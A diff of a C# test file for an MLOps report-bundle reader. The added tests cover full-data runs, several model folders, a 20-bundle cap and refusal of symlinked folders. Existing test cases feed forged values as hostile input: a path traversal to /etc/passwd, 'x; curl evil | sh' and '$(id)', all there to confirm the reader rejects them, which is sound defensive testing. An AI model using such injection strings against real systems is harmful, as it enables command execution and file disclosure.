@@ -28,7 +28,7 @@ public sealed class ReportBundleTests : IDisposable
         ["a forged sentence"] = json => json["verdict"]!["sentence"] = "Merge at once.",
         ["a forged number"] = json => json["evaluation"]!["metrics"]![0]!["challenger"]!["value"] = 0.999,
         ["a forged digest"] = json => json["verdictDigest"] = Digest.Of("x"),
-        ["a release"] = json => json["run"]!["mode"] = "full",
+        ["parts of different modes"] = json => json["run"]!["mode"] = "full",
         ["a path as id"] = json => json["run"]!["id"] = "../../../../etc/passwd",
         ["a command as training run"] = json => json["run"]!["challengers"] = new JsonArray("x; curl evil | sh"),
         ["a command as commit"] = json => json["run"]!["git"]!["commit"] = "$(id)",
@@ -141,6 +141,100 @@ public sealed class ReportBundleTests : IDisposable
         var problem = (Record.Exception(() => ReportBundle.Read(bundle, Page, Now.AddMinutes(minutes))) as ProblemException)?.Problem;
 
         Assert.Equal(taken ? null : "Its verdict is from the future.", problem?.Why);
+    }
+
+    [Fact]
+    public void A_run_on_all_data_is_read_too_and_is_not_told_to_be_registered()
+    {
+        var bundle = Bundle(null);
+        var document = Full();
+        AtomicFile.Write(Path.Combine(bundle, "report.json"), Encoding.UTF8.GetString(Documents.Write(document)));
+
+        var report = ReportBundle.Read(bundle, Page, Now);
+
+        Assert.Equal(RunMode.Full, report.Run.Mode);
+        Assert.Equal(["mlops ci release"], report.NextSteps.Select(step => step.Command));
+    }
+
+    [Fact]
+    public void Several_models_have_a_folder_each_and_a_bad_one_takes_no_other_with_it()
+    {
+        var at = folder.At("several");
+        Put(at, "mlops-run-b", Named(Valid(), "b"));
+        Put(at, "mlops-run-a", Named(Full(), "a"));
+        Put(at, "mlops-run-again", Named(Valid(), "b"));
+        Put(at, "mlops-run-forged", Valid() with { VerdictDigest = Digest.Of("x") });
+
+        var bundles = ReportBundles.Read(at, Page, Now);
+
+        Assert.Equal(["a", "b"], bundles.Reports.Select(report => report.Verdict.Model));
+        Assert.Equal(
+            ["Two of them are of the model 'b': a model has one comment.", "It names another verdict."],
+            bundles.Refused.Select(refused => refused.Problem.Why));
+    }
+
+    [Fact]
+    public void A_run_that_left_nothing_is_no_fault()
+    {
+        Assert.True(ReportBundles.Read(folder.At("nowhere"), Page, Now).IsEmpty);
+        Assert.True(ReportBundles.Read(Directory.CreateDirectory(folder.At("empty")).FullName, Page, Now).IsEmpty);
+    }
+
+    [Fact]
+    public void Nobody_gets_a_hundred_comments()
+    {
+        var at = folder.At("hundred");
+        foreach (var number in Enumerable.Range(0, ReportBundles.Most + 1))
+        {
+            var name = FormattableString.Invariant($"m{number}");
+            Put(at, name, Named(Valid(), name));
+        }
+
+        var bundles = ReportBundles.Read(at, Page, Now);
+
+        Assert.Empty(bundles.Reports);
+        Assert.Equal("The run left more than 20 of them.", Assert.Single(bundles.Refused).Problem.Why);
+    }
+
+    [Fact]
+    public void A_folder_that_is_a_link_is_refused()
+    {
+        var at = folder.At("linked");
+        Directory.CreateDirectory(at);
+        Directory.CreateSymbolicLink(Path.Combine(at, "mlops-run"), Bundle(null));
+
+        Assert.Equal("It is a link.", Assert.Single(ReportBundles.Read(at, Page, Now).Refused).Problem.Why);
+    }
+
+    private static void Put(string folder, string name, ReportDocument document)
+    {
+        Directory.CreateDirectory(Path.Combine(folder, name));
+        AtomicFile.Write(Path.Combine(folder, name, "report.json"), Encoding.UTF8.GetString(Documents.Write(document)));
+    }
+
+    private static ReportDocument Full()
+    {
+        var document = Valid();
+        return Whole(document with
+        {
+            Run = document.Run with { Mode = RunMode.Full },
+            Evaluation = document.Evaluation with { Mode = RunMode.Full },
+            Verdict = document.Verdict with { Mode = RunMode.Full },
+        });
+    }
+
+    private static ReportDocument Named(ReportDocument document, string model) => Whole(document with
+    {
+        Run = document.Run with { Model = model },
+        Evaluation = document.Evaluation with { Model = model },
+        Verdict = document.Verdict with { Model = model },
+    });
+
+    /// <summary>With the digests that fit.</summary>
+    private static ReportDocument Whole(ReportDocument document)
+    {
+        var verdict = document.Verdict with { Subject = document.Verdict.Subject with { Evaluation = Digest.OfDocument(document.Evaluation) } };
+        return document with { Verdict = verdict, VerdictDigest = Digest.OfDocument(verdict) };
     }
 
     private bool Survives(string how)
